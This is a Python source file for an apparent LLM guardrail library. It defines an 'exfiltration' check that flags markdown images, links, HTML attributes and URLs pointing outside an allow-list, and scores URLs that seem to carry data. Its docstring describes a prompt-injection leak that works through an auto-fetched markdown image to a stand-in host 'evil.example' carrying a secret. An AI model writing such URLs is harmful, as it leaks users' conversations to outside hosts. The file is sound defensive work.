"""``exfiltration``: links, images and URLs that could carry data to an outside host.

A model tricked by an injected instruction can leak the conversation by writing a markdown
image such as ``![](https://evil.example/p.png?d=<secret>)``: the chat UI fetches the
image as soon as it renders, so the data leaves without a click. This check finds every
URL in markdown images, links and reference definitions, HTML ``src``/``href``-style
attributes, CSS ``url()`` and (optionally) bare ``http(s)://`` / ``ftp://`` URLs, resolves
the host the way a browser would (userinfo, backslashes, IDNA, trailing dots, numeric IPv4
forms) and reports those whose host is not in ``allowed_hosts``. Auto-fetched elements
score higher than links, links higher than bare URLs, and any URL that looks like it is
carrying data (long or encoded query values, encoded path segments, many parameters,
template placeholders) scores near the top.
"""

from __future__ import annotations

__all__ = ["PATTERNS", "Exfiltration", "ExfiltrationParams"]

from typing import Any, ClassVar

import re2
from pydantic import BaseModel, ConfigDict, Field, field_validator

from saferail.checks._exfil.markup import (
    GROUP_KIND,
    attribute_urls,
    code_ranges,
    image_refs,
    inside,
    label,
    may_hold_url,
    strip_quotes,
    tag_attributes,
    trim_bare,
)
from saferail.checks._exfil.patterns import (
    MARKDOWN_ALTERNATIVES,
    PATTERNS,
    SCANNER_ALTERNATIVES,
    re2_subject,
)
from saferail.checks._exfil.urls import AllowList, normalize_entry
from saferail.checks._exfil.verdicts import Verdict, judge, rescore
from saferail.checks.base import Check, CheckInput, Finding
from saferail.checks.canonical import View
from saferail.checks.registry import register_check

# The implementation lives in the private package saferail.checks._exfil: the pattern
# table (patterns), URL and host resolution with the allow-list (urls), URL extraction from
# markup (markup), the data-in-URL heuristics (heuristics) and the verdict on one URL
# (verdicts). This module scans a text's views and turns verdicts into findings.

_MAX_FINDINGS = 100


class ExfiltrationParams(BaseModel):
    model_config = ConfigDict(extra="forbid")
    allowed_hosts: list[str] = Field(
        default_factory=list,
        description=(
            "Hosts URLs may point to. 'example.com' allows the host and its subdomains, "
            "'*.example.com' only its subdomains."
        ),
    )
    max_query_value_len: int = Field(
        32, description="A query value at least this long counts as data in the URL."
    )
    flag_bare_urls: bool = Field(True, description="Also report plain http(s)/ftp URLs.")
    check_markdown: bool = Field(
        True, description="Parse markdown images, links and reference definitions."
    )

    @field_validator("allowed_hosts")
    @classmethod
    def _hosts(cls, value: list[str]) -> list[str]:
        return [normalize_entry(entry) for entry in value]

    @field_validator("max_query_value_len")
    @classmethod
    def _positive(cls, value: int) -> int:
        if value < 1:
            raise ValueError(f"max_query_value_len must be a positive integer, got {value}")
        return value


@register_check
class Exfiltration(Check):
    """Markdown/HTML images, links and URLs pointing outside the allowed hosts."""

    name = "exfiltration"
    categories = ("exfiltration",)
    surfaces = frozenset({"input", "output", "retrieval", "tool_call"})
    cost = "cheap"
    description = __doc__ or ""
    tags = ("owasp:llm02:2025", "owasp:llm05:2025")
    Params: ClassVar[type[BaseModel]] = ExfiltrationParams

    def __init__(self, params: BaseModel | None = None) -> None:
        super().__init__(params)
        assert isinstance(self.params, ExfiltrationParams)
        p = self.params
        self._hosts = AllowList.from_entries(p.allowed_hosts)
        self._max_len = p.max_query_value_len
        self._bare = p.flag_bare_urls
        names = [
            n for n in SCANNER_ALTERNATIVES if p.check_markdown or n not in MARKDOWN_ALTERNATIVES
        ]
        self._scanner = re2.compile("|".join(f"(?:{PATTERNS[n]})" for n in names))
        self._index: dict[str, int] = dict(self._scanner.groupindex)

    # -- scanning ---------------------------------------------------------------------

    def run(self, data: CheckInput) -> list[Finding]:
        findings: list[Finding] = []
        main = data.canonical.main
        if may_hold_url(main.text):
            self._scan(main, data, findings, is_main=True)
        for view in data.canonical.decoded:
            if view.kind != "leetspeak" and may_hold_url(view.text):
                self._scan(view, data, findings, is_main=False)
        return findings

    def _scan(self, view: View, data: CheckInput, out: list[Finding], *, is_main: bool) -> None:
        text = view.text
        # RE2 works on UTF-8: for ASCII text scanning the bytes skips the wrapper's
        # offset translation, and byte offsets are character offsets.
        subject = re2_subject(text)
        code: list[tuple[int, int]] | None = None
        refs: set[str] | None = None
        for m in self._scanner.finditer(subject):
            if len(out) >= _MAX_FINDINGS:
                return
            start, end = m.span()
            group = self._group_of(m, text[start])
            if group == "bare":
                if not self._bare:
                    continue
                end = trim_bare(text, start, end)
                url_span = (start, end)
            elif group == "tag":
                url_span = m.span(self._index["tag"])
            else:
                url_span = m.span(self._index[group])
            ostart, oend = view.to_original(start, end)
            if not is_main and any(_overlaps(f, ostart, oend) for f in out):
                continue
            in_code = False
            if is_main:
                if code is None:
                    code = code_ranges(text) if ("`" in text or "~~~" in text) else []
                in_code = inside(code, start)
            if group == "tag":
                tag = text[url_span[0] : url_span[1]].lower()
                verdict = self._html(text[start:end], tag, view, data, start, in_code, is_main)
            else:
                verdict = self._markup(group, url_span, view, data, in_code, is_main)
            if verdict is None:
                continue
            if group == "mdref" and verdict.entity_type == "MARKDOWN_REFERENCE":
                if refs is None:
                    refs = image_refs(text)
                rs, re_ = m.span(self._index["refid"])
                if label(text[rs:re_]) in refs:
                    verdict = rescore(verdict, "MARKDOWN_IMAGE")
            out.append(
                self.finding(
                    verdict.score,
                    ostart,
                    oend,
                    entity_type=verdict.entity_type,
                    detail=verdict.detail if is_main else f"{verdict.detail} ({view.kind})",
                )
            )

    def _group_of(self, m: Any, first: str) -> str:
        """Which scanner alternative matched, from the match's first character."""
        if first == "!":
            return "mdimg"
        if first == "<":
            return "tag"
        if first == "@":
            return "cssimport"
        if first in "uU":
            return "css"
        if first == "[" and "mdlink" in self._index and m.span(self._index["mdlink"])[0] >= 0:
            return "mdlink"
        if first in "[ \t>-*+0123456789":  # a definition, maybe in a quote or list item
            return "mdref"
        return "bare"

    def _markup(
        self,
        group: str,
        url_span: tuple[int, int],
        view: View,
        data: CheckInput,
        in_code: bool,
        is_main: bool,
    ) -> Verdict | None:
        s, e = url_span
        raw = self._url_text(view, data, s, e, is_main)
        if group in ("css", "cssimport"):
            raw = strip_quotes(raw)
        elif raw.startswith("<") and raw.endswith(">"):
            raw = raw[1:-1]
        kind = "URL" if in_code else GROUP_KIND[group]
        ospan = view.to_original(s, e) if is_main else None
        return judge(raw, kind, data, ospan, self._hosts, self._max_len)

    def _html(
        self,
        tag_text: str,
        tag: str,
        view: View,
        data: CheckInput,
        tag_start: int,
        in_code: bool,
        is_main: bool,
    ) -> Verdict | None:
        worst: Verdict | None = None
        for attr, vs, ve in tag_attributes(tag_text):
            value = self._url_text(view, data, tag_start + vs, tag_start + ve, is_main)
            for url, kind in attribute_urls(attr, tag, value):
                ospan = view.to_original(tag_start + vs, tag_start + ve) if is_main else None
                v = judge(url, "URL" if in_code else kind, data, ospan, self._hosts, self._max_len)
                if v is not None and (worst is None or v.score > worst.score):
                    worst = v
        return worst

    def _url_text(self, view: View, data: CheckInput, s: int, e: int, is_main: bool) -> str:
        """The URL as written: from the original text for the main view, so a homoglyph
        host is not mistaken for the Latin host it was folded to."""
        if is_main and e > s:
            os_, oe = view.to_original(s, e)
            return data.text[os_:oe]
        return view.text[s:e]


def _overlaps(f: Finding, start: int, end: int) -> bool:
    return f.start is not None and f.end is not None and f.start < end and start < f.end
